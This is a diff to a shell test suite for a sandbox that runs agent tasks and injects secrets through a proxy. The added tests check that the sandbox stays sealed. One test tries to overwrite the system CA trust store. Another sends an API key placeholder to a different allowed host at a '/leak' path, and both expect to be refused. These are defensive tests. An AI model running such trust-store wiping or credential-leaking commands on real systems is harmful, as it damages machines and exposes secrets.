@@ -89,6 +89,9 @@ case_no_trace_of_the_value_inside() {
 		grep -rIlsF -f /tmp/pat --exclude=pat /etc /tmp /dev/shm /run "$HOME" . 2>/dev/null \
 			| sed "s/^/file-hit=/"
 		find / -xdev -name ca.key 2>/dev/null | sed "s/^/cakey=/"
+		# replacing the trust store inside: refused (and it would fool only the inside)
+		cp /dev/null /etc/ssl/certs/ca-certificates.crt 2>/dev/null && echo bundle-replaced
+		grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt | sed "s/^/bundle-certs=/"
 		echo done'''
 	assert_eq "$rc" 0 "the run succeeds: $errout"
 	assert_contains "$out" "proc-hits=0" "no process's environment or command line"
@@ -96,6 +99,8 @@ case_no_trace_of_the_value_inside() {
 		the variable) stays unreadable"
 	assert_not_contains "$out" "file-hit=" "no file"
 	assert_not_contains "$out" "cakey=" "the CA key is not inside"
+	assert_not_contains "$out" "bundle-replaced" "the trust store inside is read-only"
+	[ "$(printf '%s\n' "$out" | sed -n 's/^bundle-certs=//p')" -gt 1 ] || fail "the bundle: $out"
 	assert_contains "$out" "done" "the search ran"
 }
 
@@ -143,6 +148,32 @@ case_plain_http_and_other_names_get_no_value() {
 	assert_contains "$out" "'other.test' is not 'remote.test'" "the second, to another host, not"
 	assert_not_contains "$(cat "$ECHO_LOG")" "/two" "the host never saw it"
 	assert_not_contains "$(cat "$ECHO_LOG")" "other.test" "nor any other name"
+}
+
+case_placeholder_to_an_unbound_host_goes_unchanged() {
+	# What: send the secret's placeholder to another allowed host (terminated for its
+	# request rules), hoping the proxy puts the value in there. Must: it goes unchanged,
+	# and the run's record says so.
+	setup_task
+	as_user mkdir -p cfg/agenttask
+	printf '{"requests": {"www.remote.test": {"methods": ["GET"]}}}' >cfg/agenttask/config.json
+	set +e
+	as_user env XDG_CONFIG_HOME="$PWD/cfg" SSL_CERT_FILE="$NET_CERT" API_KEY="$API_KEY" \
+		"$ATBIN" -C repo run t --json "${SECRET[@]}" --allow-host www.remote.test:8443 -- sh -c \
+		'curl -s --max-time 20 https://www.remote.test:8443/leak -H "x-api-key: $API_KEY"; echo "ph=$API_KEY"' \
+		>out.json 2>err.txt
+	rc=$?
+	set -e
+	assert_eq "$rc" 0 "the run succeeds: $(cat err.txt)"
+	python3 - out.json "$VALUE" "$ECHO_LOG" <<-'PY' || fail "the record: $(cat out.json)"
+	import json, sys
+	run = json.load(open(sys.argv[1]))
+	ph = [l for l in run["stdout"].splitlines() if l.startswith("ph=")][0][3:]
+	log = open(sys.argv[3]).read()
+	assert "x-api-key: " + ph in log and sys.argv[2] not in log, log
+	req = [r for r in run["requests"] if r["host"] == "www.remote.test"][0]
+	assert req["placeholder_unchanged"] == "API_KEY" and req["secret"] is None, req
+	PY
 }
 
 case_smuggling_and_upgrades_are_refused() {
